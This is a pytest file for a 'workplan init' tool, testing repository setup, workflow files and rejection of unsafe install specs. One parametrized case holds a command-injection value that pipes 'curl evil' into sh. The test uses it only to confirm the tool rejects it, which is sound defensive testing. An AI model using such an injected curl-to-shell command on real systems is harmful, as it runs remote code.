"""workplan init: a new plan repository ready for review."""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import tomllib
from importlib import metadata

import pytest

from tests.conftest import DATA, ROOT, git
from workplan_cli import yamlio
from workplan_cli.git import setup as gitsetup
from workplan_cli.plan import schemas

SPEC = "git+https://github.com/example/workplan@0123456789abcdef0123456789abcdef01234567"


def test_init_with_the_shipped_plan(tmp_path, cli, monkeypatch):
    target = tmp_path / "dialogue"
    out = cli("init", str(target), "--install-spec", SPEC).stdout
    assert "wrote data/workplan-2024.yaml" in out
    assert (target / ".git").is_dir()
    assert (target / "data" / "workplan-2024.yaml").read_bytes() == (
        DATA / "workplan-2024.yaml"
    ).read_bytes()
    assert (target / "schema" / "workplan.schema.json").read_text() == schemas.render(
        schemas.plan_schema()
    )
    assert (target / ".github/workflows/workplan-review.yml").read_text() == (
        gitsetup.workflow_text(SPEC)
    )
    assert (target / ".github/workflows/workplan-due.yml").read_text() == (
        gitsetup.due_workflow_text(SPEC)
    )
    assert "id: workplan-validate" in (target / ".pre-commit-config.yaml").read_text()
    assert "data/workplan-*.yaml diff=workplan" in (target / ".gitattributes").read_text()
    assert git(target, "config", "--local", "--get", "diff.workplan.textconv").strip()
    assert "2 files valid." in cli("validate", "--repo", str(target)).stdout
    monkeypatch.chdir(target)
    git(target, "add", "-A")
    git(target, "commit", "-q", "-m", "start")
    assert "## Work plan review" in cli("review", "HEAD").stdout


def test_init_blank_skeletons_validate(tmp_path, cli):
    target = tmp_path / "new"
    cli("init", str(target), "--blank")
    year = dt.date.today().year
    assert (target / "data" / f"workplan-{year}.yaml").exists()
    assert "2 files valid." in cli("validate", "--repo", str(target)).stdout
    cli("status", "--repo", str(target))


def test_init_refuses_a_non_empty_folder_or_a_file(tmp_path, cli):
    full = tmp_path / "full"
    full.mkdir()
    (full / "notes.txt").write_text("mine")
    assert "is not an empty folder" in cli("init", str(full), code=1).stderr
    assert sorted(p.name for p in full.iterdir()) == ["notes.txt"]
    a_file = tmp_path / "file"
    a_file.write_text("x")
    assert "is not an empty folder" in cli("init", str(a_file), code=1).stderr


def test_init_into_an_existing_empty_folder(tmp_path, cli):
    empty = tmp_path / "empty"
    empty.mkdir()
    cli("init", str(empty))
    assert (empty / "data" / "stakeholders.yaml").exists()


def test_starter_files_are_the_shipped_data_and_package_data():
    for name in ("workplan-2024.yaml", "stakeholders.yaml"):
        assert gitsetup.starter_file(name) == (DATA / name).read_bytes(), name
    config = tomllib.loads((ROOT / "pyproject.toml").read_text())
    assert "starter/*.yaml" in config["tool"]["setuptools"]["package-data"]["workplan_cli"]


def test_init_with_a_relative_path(tmp_path, cli, monkeypatch):
    monkeypatch.chdir(tmp_path)
    out = cli("init", "rel").stdout
    assert "wrote .gitattributes" in out and "wrote data/stakeholders.yaml" in out


def test_init_writes_a_gitignore_so_its_advice_commits_no_lock_file(tmp_path, cli):
    target = tmp_path / "dialogue"
    out = cli("init", str(target), "--install-spec", SPEC).stdout
    assert "wrote .gitignore" in out and "git add -A && git commit" in out
    cli("set-status", "1.1.1", "in-progress", "--by", "X", "--repo", str(target))
    assert (target / "data" / "workplan-2024.yaml.lock").exists()
    (target / ".venv").mkdir()
    (target / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    git(target, "add", "-A")
    staged = git(target, "diff", "--cached", "--name-only").split()
    assert "data/workplan-2024.yaml" in staged and ".gitignore" in staged
    assert not [name for name in staged if name.endswith(".lock") or name.startswith(".venv")]


def test_init_inside_a_git_repository_is_refused_unless_nested(tmp_path, cli):
    outer = tmp_path / "project"
    outer.mkdir()
    git(outer, "init", "-q")
    err = cli("init", str(outer / "plans"), code=1).stderr
    assert f"is inside the git repository {outer}: add --nested" in err
    assert not (outer / "plans").exists()
    out = cli("init", str(outer / "plans"), "--nested").stdout
    assert f"a subfolder of the git repository {outer}" in out
    assert not (outer / "plans" / ".git").exists()  # no repository inside the repository
    assert not (outer / "plans" / ".github").exists()  # a workflow there would never run
    assert "plans/data/workplan-*.yaml diff=workplan" in (outer / ".gitattributes").read_text()
    assert "2 files valid." in cli("validate", "--repo", str(outer / "plans")).stdout
    cli("set-status", "1.1.1", "in-progress", "--by", "X", "--repo", str(outer / "plans"))
    git(outer, "add", "-A")
    staged = git(outer, "diff", "--cached", "--name-only").split()
    assert "plans/data/workplan-2024.yaml" in staged
    assert not [name for name in staged if name.endswith(".lock")]
    err = cli("init", str(tmp_path / "alone"), "--nested", code=1).stderr
    assert "is not inside a git repository" in err


@pytest.mark.parametrize(
    "spec",
    ["workplan", "workplan==1.0", 'x"; curl evil | sh; "', "file:///home/me/workplan", ""],
)
def test_install_spec_must_be_a_source_the_user_controls(tmp_path, cli, spec):
    err = cli("init", str(tmp_path / "d"), "--install-spec", spec, code=1).stderr
    assert "is not a URL or a ./path in the repository" in err
    assert not (tmp_path / "d").exists()


def _installed_from(monkeypatch, record: dict | None):
    class Distribution:
        def read_text(self, name):
            assert name == "direct_url.json"
            return None if record is None else json.dumps(record)

    monkeypatch.setattr(metadata, "distribution", lambda name: Distribution())


def test_the_workflow_installs_the_commit_init_was_installed_from(tmp_path, cli, monkeypatch):
    commit = "89abcdef0123456789abcdef0123456789abcdef"
    url = "https://github.com/example/workplan.git"
    _installed_from(monkeypatch, {"url": url, "vcs_info": {"vcs": "git", "commit_id": commit}})
    result = cli("init", str(tmp_path / "d"))
    assert "Warning" not in result.stderr
    flow = yamlio.parse((tmp_path / "d/.github/workflows/workplan-review.yml").read_text())
    assert flow["jobs"]["review"]["env"]["WORKPLAN_INSTALL"] == f"git+{url}@{commit}"
    wheel = "https://example.org/workplan-1.0-py3-none-any.whl"
    _installed_from(monkeypatch, {"url": wheel, "archive_info": {}})
    assert gitsetup.install_spec(None) == (wheel, None)


@pytest.mark.parametrize(
    "record",
    [None, {"url": "file:///home/me/workplan", "dir_info": {"editable": True}}, {"bad": 1}],
)
def test_an_unknown_source_gives_a_placeholder_that_stops_the_job(
    tmp_path, cli, monkeypatch, record
):
    """Installed from a package index (no record), a local folder or an unreadable record:
    init never guesses a name; the workflow stops with a message until the user sets it."""
    _installed_from(monkeypatch, record)
    result = cli("init", str(tmp_path / "d"))
    assert "Warning: " in result.stderr and "--install-spec" in result.stderr
    flow = yamlio.parse((tmp_path / "d/.github/workflows/workplan-review.yml").read_text())
    env = flow["jobs"]["review"]["env"]
    assert env["WORKPLAN_INSTALL"] == gitsetup.INSTALL_PLACEHOLDER
    [install] = [
        s["run"] for s in flow["jobs"]["review"]["steps"] if s.get("name") == "Install workplan"
    ]
    done = subprocess.run(
        ["bash", "-e", "-c", install],
        env={**os.environ, "WORKPLAN_INSTALL": env["WORKPLAN_INSTALL"], "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 1
    assert done.stdout.startswith("::error::Set WORKPLAN_INSTALL in this workflow")
